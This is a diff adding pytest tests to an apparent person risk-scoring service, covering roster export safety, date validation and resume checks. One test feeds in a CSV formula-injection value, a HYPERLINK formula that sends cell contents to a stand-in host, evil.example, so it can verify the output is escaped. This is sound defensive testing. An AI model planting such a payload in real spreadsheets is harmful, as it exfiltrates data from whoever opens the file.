@@ -207,3 +207,132 @@ def test_forwarded_addresses_are_believed_only_from_a_trusted_proxy(served_regis
             assert httpx.get(f"{url}/v1/models", headers=headers, timeout=30).status_code == 200
         clients[bool(trusted)] = AuditLog(audit).query().client.iloc[-1]
     assert clients == {False: "127.0.0.1", True: "10.66.66.66"}
+
+
+def _roster_cli(root: Path, *args: str):
+    from typer.testing import CliRunner
+
+    from serving.cli import app as cli
+
+    old, saved = Path.cwd(), os.environ.pop("MLFLOW_TRACKING_URI", None)
+    os.chdir(root)
+    try:
+        return CliRunner().invoke(cli, ["score-roster", *map(str, args), "--data", "city"])
+    finally:
+        os.chdir(old)
+        if saved is not None:
+            os.environ["MLFLOW_TRACKING_URI"] = saved
+        use_mlflow(root)
+
+
+def test_roster_text_never_becomes_a_live_formula(served, tmp_path):
+    from openpyxl import Workbook, load_workbook
+
+    persons = pd.read_parquet(served / "city" / "persons.parquet").person_id
+    evil = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
+    roster = tmp_path / "roster.csv"
+    pd.DataFrame({"person_id": persons.iloc[:4], "note": [evil, "+1+1", "-2", "@SUM(A1)"]}).to_csv(
+        roster, index=False
+    )
+    for suffix in ("csv", "xlsx"):
+        out = tmp_path / f"scored.{suffix}"
+        r = _roster_cli(served, roster, "--task", "relapse", "--out", out)
+        assert r.exit_code == 0, r.output
+        if suffix == "csv":
+            notes = pd.read_csv(out, encoding="utf-8-sig", dtype=str).note.tolist()
+        else:
+            sheet = load_workbook(out).worksheets[0]
+            column = [c.value for c in sheet[1]].index("note") + 1
+            cells = [sheet.cell(row=i, column=column) for i in range(2, 6)]
+            assert all(c.data_type != "f" for c in cells)
+            notes = [c.value for c in cells]
+        assert notes == ["'" + evil, "'+1+1", "-2", "'@SUM(A1)"]  # a plain number stays one
+
+    # a formula in an input workbook is an error naming the cell, not an empty value
+    book = Workbook()
+    sheet = book.active
+    sheet.append(["person_id", "note"])
+    sheet.append([persons.iloc[0], "ok"])
+    sheet.append([persons.iloc[1], "=1+2"])
+    book.save(tmp_path / "formula.xlsx")
+    r = _roster_cli(
+        served, tmp_path / "formula.xlsx", "--task", "relapse", "--out", tmp_path / "f.csv"
+    )
+    assert r.exit_code == 2 and "cell B3 holds a formula" in " ".join(r.output.split())
+    # a damaged workbook is a one-paragraph error, exit 2
+    (tmp_path / "broken.xlsx").write_bytes(b"PK\x03\x04 not really a workbook")
+    r = _roster_cli(
+        served, tmp_path / "broken.xlsx", "--task", "relapse", "--out", tmp_path / "b.csv"
+    )
+    assert r.exit_code == 2 and "cannot read roster" in " ".join(r.output.split())
+    assert not isinstance(r.exception, Exception) or isinstance(r.exception, SystemExit)
+
+
+def test_one_date_policy_for_every_path(api, served, tmp_path):
+    person = {"person_id": "N1", "birth_date": "1990-01-01", "district": "huaxi"}
+    for as_of, why in (
+        ("9999-12-31", "after the data's reference date"),
+        ("0001-01-01", "before 1900"),
+    ):
+        r = httpx.post(
+            api["url"] + "/v1/score/relapse",
+            json={"records": [{"person": person, "events": [], "as_of": as_of}]},
+            headers=auth(api, "analyst"),
+            timeout=30,
+        )
+        assert r.status_code == 422 and why in r.json()["detail"][0]["reason"], r.text
+        r = httpx.get(
+            api["url"] + "/v1/persons/P0000001/risk",
+            params={"as_of": as_of, "allow_out_of_cohort": "true"},
+            headers=auth(api, "analyst"),
+            timeout=30,
+        )
+        assert r.status_code == 422 and why in r.json()["detail"][0]["reason"]
+    old = {**person, "birth_date": "1850-05-01"}
+    r = httpx.post(
+        api["url"] + "/v1/score/relapse",
+        json={"records": [{"person": old, "events": []}]},
+        headers=auth(api, "analyst"),
+        timeout=30,
+    )
+    assert r.status_code == 422 and r.json()["detail"][0]["field"] == "person.birth_date"
+    roster = tmp_path / "dates.csv"
+    pid = pd.read_parquet(served / "city" / "persons.parquet").person_id.iloc[0]
+    pd.DataFrame({"person_id": [pid, pid], "as_of": ["0001-01-01", "9999-12-31"]}).to_csv(
+        roster, index=False
+    )
+    r = _roster_cli(served, roster, "--task", "relapse", "--out", tmp_path / "d.csv")
+    assert r.exit_code == 0, r.output
+    errors = pd.read_csv(tmp_path / "d.csv", encoding="utf-8-sig").error.tolist()
+    assert errors == [
+        "as_of: before 1900-01-01",
+        "as_of: after the data's reference date 2026-06-30",
+    ]
+
+
+def test_resume_refuses_parts_written_from_other_data(served, tmp_path):
+    import shutil
+
+    from features.errors import InputError
+    from models.registry import load_model
+    from serving.batch import RosterScorer
+    from serving.roster_job import RosterJob
+
+    use_mlflow(served)
+    city = tmp_path / "city"
+    shutil.copytree(served / "city", city)
+    roster = tmp_path / "roster.csv"
+    pd.read_parquet(city / "persons.parquet").person_id.head(50).to_frame().to_csv(
+        roster, index=False
+    )
+    model, facts = load_model("relapse")
+
+    def scorer(resume: bool) -> RosterScorer:
+        job = RosterJob(roster, "relapse", tmp_path / "out.csv", resume=resume)
+        return RosterScorer(job, Store(city), model, facts, load_interventions()["relapse"])
+
+    scorer(False).prepare_parts()  # an interrupted run left its manifest
+    scorer(True).prepare_parts()  # the same data and model: resumable
+    os.utime(city / "events.parquet", ns=(10**18, 10**18))  # the registry was refreshed
+    with pytest.raises(InputError, match=r"\(data changed\)"):
+        scorer(True).prepare_parts()
